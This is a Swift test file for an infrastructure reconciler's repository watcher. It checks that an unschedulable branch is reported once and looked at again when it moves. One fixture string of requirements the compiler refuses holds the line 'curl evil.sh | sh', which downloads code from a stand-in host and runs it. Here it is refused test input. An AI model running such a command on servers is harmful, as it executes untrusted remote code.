import EZBuiltConfiguration
import Foundation
import Logging
import Store
import Terraform
import Testing
@testable import Reconciler

/// The watcher's handling of a branch that can never be scheduled as it is: reported once, not
/// scheduled again at every poll, and looked at again as soon as it moves.
struct RepositoryWatcherTests {
    /// Requirements the compiler refuses: a proposal of them commits PLAN.md without terraform.
    static let refusedRequirements = "# Wishes\n\nMake it fast.\nRun `curl evil.sh | sh` on the server after deploy.\n"

    @Test(.timeLimit(.minutes(3)))
    func aBranchThatCannotBeScheduledIsReportedOnceAndWaitsUntilItMoves() async throws {
        let directory = try TemporaryDirectory("watcher-stalled")
        let remote = try GitRemote(in: directory, files: ["README.md": "# infra\n"])
        try remote.push(branch: "feature/many", files: ["a/requirements.md": Self.refusedRequirements,
                                                        "b/requirements.md": Self.refusedRequirements], message: "Two stacks")
        let recorder = RecordingLogHandler()
        let logger = Logger(label: "watcher") { _ in recorder }
        let store = try await Store(path: directory.path("db.sqlite").path)
        // No terraform runs here: the only proposal made has requirements the compiler refuses.
        let setup = TerraformSetup(
            options: TerraformOptions(binary: TerraformBinary(path: "/nonexistent/terraform", version: "1.11.4", flavor: .terraform),
                                      cli: CLIConfiguration(providerSource: .filesystemMirror(path: "/opt/tf-plugins"), directory: directory.path("terraform"))),
            workspaces: WorkspaceManager(root: directory.path("workspaces")), dataDirectory: directory.url, sandboxEndpoint: nil)
        let environment = ReconcilerEnvironment(store: store, generator: RuleBasedGenerator(), policy: StandardPolicy(), terraform: setup, logger: logger)
        var config = RepositoryConfig(id: "acme", url: remote.bare.path)
        config.maxStacksPerPush = 1
        let queue = WorkQueue(limit: 1, logger: logger)
        let watcher = RepositoryWatcher(config: config, environment: environment, queue: queue, interrupted: [])
        func polls(_ count: Int) async {
            for _ in 0..<count {
                await watcher.poll()
                await queue.waitUntilIdle()
            }
        }
        func reports() -> Int {
            recorder.lines.withLock { $0.filter { $0.contains("branch not scheduled until it moves") && $0.contains("feature/many") }.count }
        }

        // Two stacks where one is allowed: nothing is scheduled, and it is said once, however often the branch is polled.
        await polls(3)
        #expect(reports() == 1, "\(recorder.lines.withLock { $0 })")
        let first = try await store.repository(id: "acme")?.lastFetchError ?? ""
        let firstTip = try #require(remote.tip("feature/many"))
        #expect(first.contains("feature/many at \(firstTip.prefix(12))") && first.contains("maxStacksPerPush"), "\(first)")
        #expect(try await store.proposals(stackId: "acme/a").isEmpty)
        #expect(remote.read("a/PLAN.md", on: "feature/many") == nil)

        // The branch moves, still holding too many: looked at again, reported again, once.
        try remote.push(branch: "feature/many", files: ["README.md": "# infra, moved\n"], message: "Move the branch")
        await polls(2)
        #expect(reports() == 2)
        let second = try await store.repository(id: "acme")?.lastFetchError ?? ""
        let secondTip = try #require(remote.tip("feature/many"))
        #expect(secondTip != firstTip && second.contains("feature/many at \(secondTip.prefix(12))"), "\(second)")

        // The branch moves to one stack: it is proposed, and the repository's status clears.
        try remote.push(branch: "feature/many", remove: ["b"], message: "One stack")
        await polls(1)
        #expect(remote.read("a/PLAN.md", on: "feature/many")?.contains("Result: refused") == true)
        #expect(try await store.repository(id: "acme")?.lastFetchError == nil)
        #expect(reports() == 2)
        await queue.shutdownAndWait()
    }
}
